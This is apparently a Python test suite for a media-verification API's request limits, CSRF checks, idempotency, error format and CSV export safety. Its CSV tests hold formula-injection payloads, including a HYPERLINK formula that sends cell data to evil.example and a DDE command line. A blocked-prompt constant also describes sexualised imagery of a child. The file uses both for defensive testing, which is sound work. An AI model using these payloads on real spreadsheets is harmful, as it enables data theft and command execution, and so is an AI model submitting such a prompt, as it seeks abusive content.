"""API details (issue 21), each over a real server: a declared body over the limit is 413 at once, the
console checks size and CSRF before reading an upload, another body under a used Idempotency-Key is 409,
a problem's `status` is always the integer, `/v1/reviews/{id}` names no server path, CSV exports do not
carry formulas, and uvicorn's connection-limit 503 is a problem like every other error."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from bench.bombs import serving
from credence.app import create_app
from credence.csvsafe import FORMULA_STARTS, neutralise_cell
from credence.runtime import Runtime
from provenance.publish import PublishRequest

from .conftest import API_KEY, LiveServer, make_clip, settings_for

LIMIT = 2_000_000
BLOCKED_PROMPT = "a naked child in a bedroom"  # blocked by the default policy (tests/test_jobs.py)


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    home = tmp_path_factory.mktemp("details") / "home"
    settings = settings_for(home, CREDENCE_API_KEYS=API_KEY, CREDENCE_MAX_UPLOAD_BYTES=LIMIT)
    runtime = Runtime(settings)
    runtime.init()
    with LiveServer(create_app(settings)) as server:
        yield {"url": server.url, "port": server.port, "runtime": runtime, "home": home}
    runtime.ledger.dispose()


def _client(live: dict[str, Any]) -> httpx.Client:
    return httpx.Client(base_url=live["url"], timeout=120, headers={"X-API-Key": API_KEY})


def _raw(port: int, head: str, timeout: float = 40.0) -> tuple[bytes, float]:
    """Send a request head (no body) and read one answer (head and `Content-Length` body); (answer, seconds)."""
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(head.encode())
        data = b""
        try:
            while chunk := sock.recv(65536):
                data += chunk
                top, sep, body = data.partition(b"\r\n\r\n")
                length = re.search(rb"(?im)^content-length:\s*(\d+)", top)
                if sep and length and len(body) >= int(length.group(1)):
                    break
        except (TimeoutError, ConnectionResetError):
            pass
    return data, time.monotonic() - started


# -- declared bodies over the limit ---------------------------------------------------------------------
@pytest.mark.parametrize(("path", "content_type"), [("/v1/verify", "video/mp4"),
                                                    ("/v1/verify", "multipart/form-data; boundary=b"),
                                                    ("/matches/byContent", "video/mp4"),
                                                    ("/v1/moderations", "application/json"),
                                                    ("/v1/generations", "application/json")])
def test_a_declared_length_over_the_limit_is_413_at_once(live: dict[str, Any], path: str, content_type: str) -> None:
    """10^15 bytes declared and none sent: answered at once (it waited for the 30 s body timeout)."""
    answer, took = _raw(live["port"], f"POST {path} HTTP/1.1\r\nHost: x\r\nX-API-Key: {API_KEY}\r\n"
                                      f"Content-Type: {content_type}\r\nContent-Length: {10**15}\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    head, _, body = answer.partition(b"\r\n\r\n")
    assert b"application/problem+json" in head.lower() and json.loads(body)["status"] == 413
    assert took < 5, took


def test_a_body_a_little_over_the_limit_still_gets_its_413(live: dict[str, Any]) -> None:
    """A client that sends what it declared reads the answer, not a reset connection."""
    with _client(live) as c:
        answer = c.post("/v1/verify", content=b"v" * (LIMIT + 70_000), headers={"Content-Type": "video/mp4"})
    assert answer.status_code == 413 and answer.json()["status"] == 413


# -- the console reads no upload before checking CSRF and size -----------------------------------------
def _console_signin(live: dict[str, Any]) -> httpx.Client:
    """A signed-in console client."""
    http = httpx.Client(base_url=live["url"], timeout=60)
    http.get("/console")
    signed = http.post("/console/signin", data={"key": API_KEY, "csrf": http.cookies.get("credence_console_csrf")})
    assert signed.status_code == 303, signed.text
    return http


def _console_session(live: dict[str, Any]) -> tuple[httpx.Client, str]:
    """A signed-in console client, and the CSRF token its verify form posts with (in the form's URL)."""
    http = _console_signin(live)
    page = http.get("/console/verify")
    action = re.search(r'<form[^>]*action="(/console/verify[^"]*)"', page.text)
    assert action, page.text
    token = re.search(r"csrf=([A-Za-z0-9_\-]+)", action.group(1))
    assert token, action.group(1)
    return http, token.group(1)


def test_the_console_refuses_a_bad_csrf_token_before_reading_the_upload(live: dict[str, Any]) -> None:
    http, token = _console_session(live)
    cookie = "; ".join(f"{k}={v}" for k, v in http.cookies.items())
    head = ("POST /console/verify?csrf={csrf} HTTP/1.1\r\nHost: x\r\nCookie: {cookie}\r\n"
            "Content-Type: multipart/form-data; boundary=b\r\nContent-Length: {length}\r\n\r\n")
    # A wrong token with a 200 MB body declared and none sent: refused now, not after the body.
    answer, took = _raw(live["port"], head.format(csrf="wrong", cookie=cookie, length=1_500_000))
    assert answer.startswith(b"HTTP/1.1 403"), answer[:300]
    assert took < 5, took
    # The right token and a body over the limit: 413 at once.
    answer, took = _raw(live["port"], head.format(csrf=token, cookie=cookie, length=200_000_000))
    assert answer.startswith(b"HTTP/1.1 413"), answer[:300]
    assert took < 5, took
    # The right token and a real clip: the verdict page, as before.
    clip = make_clip(live["home"].parent / "console.mp4", frames=12)
    page = http.post(f"/console/verify?csrf={token}", files={"file": ("c.mp4", clip.read_bytes(), "video/mp4")})
    assert page.status_code == 200 and "not_generated" in page.text.replace("not generated", "not_generated")
    http.close()


# -- Idempotency-Key and problem status --------------------------------------------------------------------
@pytest.mark.slow
def test_idempotency_key_with_another_body_is_409_and_blocked_status_is_an_integer(live: dict[str, Any]) -> None:
    with _client(live) as c:
        first = c.post("/v1/generations", json={"prompt": BLOCKED_PROMPT, "steps": 2},
                       headers={"Idempotency-Key": "k-1"})
        assert first.status_code == 422, first.text
        problem = first.json()
        assert problem["status"] == 422 and isinstance(problem["status"], int)
        assert problem["generation_status"] == "blocked" and problem["id"]
        assert first.headers["content-type"].startswith("application/problem+json")
        again = c.post("/v1/generations", json={"prompt": BLOCKED_PROMPT, "steps": 2},
                       headers={"Idempotency-Key": "k-1"})
        assert again.json()["id"] == problem["id"] and again.json()["status"] == 422  # the same job, replayed
        other = c.post("/v1/generations", json={"prompt": BLOCKED_PROMPT, "steps": 3},
                       headers={"Idempotency-Key": "k-1"})
        assert other.status_code == 409, other.text
        body = other.json()
        assert body["status"] == 409 and "Idempotency-Key" in body["detail"]
        assert other.headers["content-type"].startswith("application/problem+json")


# -- server paths ------------------------------------------------------------------------------------------
def test_a_review_record_names_no_server_path(live: dict[str, Any]) -> None:
    runtime: Runtime = live["runtime"]
    home: Path = live["home"]
    source = make_clip(home.parent / "source.mp4", frames=12)
    (home / "outputs-review").mkdir(parents=True, exist_ok=True)
    published = runtime.publisher.publish_file(source, home / "outputs-review" / "clip.mp4",
                                               PublishRequest(prompt="a blue square", model_name="external"))
    with _client(live) as c:
        answer = c.get(f"/v1/reviews/{published.generation_id}")
    assert answer.status_code == 200, answer.text
    text = answer.text
    assert str(home) not in text and "/tmp/" not in text and "clip.mp4" not in text, text
    item = answer.json()
    assert item["files"] and all("path" not in f for f in item["files"])
    assert item["files"][0]["sha256"] and any(a["action"] == "generation.published" for a in item["audit"])


# -- CSV exports ---------------------------------------------------------------------------------------------
def test_neutralise_cell_follows_owasp() -> None:
    for start in FORMULA_STARTS:
        assert neutralise_cell(start + "1+1") == "'" + start + "1+1"
    assert neutralise_cell('=HYPERLINK("https://evil.example/?"&A1,"open")').startswith("'=")
    assert neutralise_cell("a red circle") == "a red circle" and neutralise_cell("") == ""
    assert neutralise_cell(-3) == -3 and neutralise_cell(None) is None


@pytest.mark.parametrize("route", ["/v1/audit/export?format=csv", "/console/export?fmt=csv"])
def test_csv_exports_carry_no_formula(live: dict[str, Any], route: str) -> None:
    runtime: Runtime = live["runtime"]
    prompts = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "\t=1+1", "\r=1+1"]
    for prompt in prompts:
        runtime.publisher.begin(PublishRequest(prompt=prompt, model_name="external"), status="blocked",
                                stage="prompt")
    http = _console_signin(live) if route.startswith("/console") else _client(live)
    try:
        answer = http.get(route)
    finally:
        http.close()
    assert answer.status_code == 200, answer.text[:300]
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    exported = {row["prompt"] for row in rows}
    for prompt in prompts:
        assert "'" + prompt in exported, (prompt, exported)
    for row in rows:
        assert not any(str(v).startswith(FORMULA_STARTS) for v in row.values()), row


# -- uvicorn's overflow ------------------------------------------------------------------------------------
@pytest.mark.slow
def test_the_connection_limit_answers_a_problem(tmp_path: Path) -> None:
    """A real `credence serve` with CREDENCE_MAX_CONNECTIONS=2: one idle connection open, the next request is
    past the limit, and its 503 is a problem with Retry-After (uvicorn's own is plain text)."""
    key = "overflow-key-0123456789"
    with serving(tmp_path / "home", key, CREDENCE_MAX_CONNECTIONS="2") as (url, _proc):
        port = int(url.rsplit(":", 1)[1])
        assert httpx.get(f"{url}/healthz").status_code == 200
        with socket.create_connection(("127.0.0.1", port)):
            time.sleep(0.3)
            answer = httpx.get(f"{url}/v1/whoami", headers={"X-API-Key": key})
        assert answer.status_code == 503
        assert answer.headers["content-type"] == "application/problem+json" and answer.headers["retry-after"]
        body = answer.json()
        assert body["status"] == 503 and body["type"] == "urn:credence:problem:busy" and body["detail"]
        time.sleep(0.3)
        assert httpx.get(f"{url}/v1/whoami", headers={"X-API-Key": key}).status_code == 200
